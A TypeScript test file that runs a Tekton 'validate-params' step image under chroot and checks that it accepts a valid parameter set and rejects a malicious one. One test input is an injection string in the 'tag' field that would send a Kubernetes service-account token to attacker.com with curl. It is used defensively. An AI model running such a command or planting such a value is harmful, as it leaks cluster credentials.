// The real validate-params image, unpacked by umoci and run under chroot as
// uid 65532, with the args and env that Tekton would give it from the
// catalog Task YAML.
import t from 'tap';
import { chmod, mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { builtCatalog } from '../harness/catalog-build.ts';
import { loadCatalogTask, renderStep } from '../harness/catalog-task.ts';
import { requireRoot } from '../harness/shared.ts';
import { runEntrypoint, unpackImage } from '../harness/step-image.ts';

t.test('validate-params runs from its real image and validates a real param set', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  const built = await builtCatalog();
  const { record, spec, defaults } = await loadCatalogTask(built, 'validate-params');
  const step = spec.steps[0]!;
  t.equal(step.image, record.images['validate-params']!.reference, 'the Task runs the image the index records');

  const image = await unpackImage(built.layoutDir, 'step-validate-params', 'amd64');
  t.teardown(image.cleanup);
  t.equal(image.config.User, '65532:65532');

  const rules = {
    'git-revision': { type: 'git-sha' },
    image: { type: 'image-reference', requireDigest: true },
    tag: { type: 'image-tag' },
    version: { type: 'semver' },
    namespace: { type: 'dns-label' },
    app: { type: 'k8s-name' },
    context: { type: 'relative-path' },
    repo: { type: 'https-url', allowedHosts: ['github.com'] },
    replicas: { type: 'integer', min: 1, max: 10 },
    'dry-run': { type: 'bool' },
  };
  const good = [
    `git-revision=${'a1b2c3d4'.repeat(5)}`,
    `image=registry.example.com/team/app@sha256:${'e'.repeat(64)}`,
    'tag=v1.2.3',
    'version=1.2.3-rc.1',
    'namespace=build',
    'app=my-app.v2',
    'context=services/api',
    'repo=https://github.com/example/app',
    'replicas=3',
    'dry-run=false',
  ];

  const run = async (values: string[]) => {
    const resultsDir = join(image.rootfs, 'tmp', 'results');
    await mkdir(resultsDir, { recursive: true });
    await chmod(resultsDir, 0o1777); // Tekton's results folder is writable by the step user
    const { args, env } = renderStep(step, {
      params: { ...defaults, rules: JSON.stringify(rules), values },
      context: { 'task.name': 'validate' },
    });
    return runEntrypoint(image.rootfs, image.config, {
      args,
      env: { ...env, TEKTON_RESULTS_DIR: '/tmp/results' },
      timeoutMs: 60_000,
    });
  };

  const ok = await run(good);
  t.equal(ok.code, 0, `valid set accepted: ${ok.stderr}`);
  t.equal(await readFile(join(image.rootfs, 'tmp', 'results', 'VALIDATED'), 'utf8'), 'true');
  t.match(await readFile(join(image.rootfs, 'tmp', 'results', 'PARAMS_DIGEST'), 'utf8'), /^sha256:[a-f0-9]{64}$/);

  const attack = '--build-arg FOO=bar; curl attacker.com -d $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)';
  const bad = await run(good.map((entry) => (entry.startsWith('tag=') ? `tag=${attack}` : entry.startsWith('replicas=') ? 'replicas=11' : entry)));
  t.equal(bad.code, 1, 'the attack is rejected with exit 1');
  t.match(bad.stderr, /tag \(rule image-tag\)/, 'names the param and its rule');
  t.match(bad.stderr, /replicas \(rule integer\)/, 'lists every failing param at once');
  t.notOk(bad.stderr.includes(attack) || bad.stdout.includes(attack), 'the raw attack string is never printed');
  t.match(bad.stderr, /metrics: tekton_param_validation_failures_total\{param="tag",task="validate"\} 1/);
});
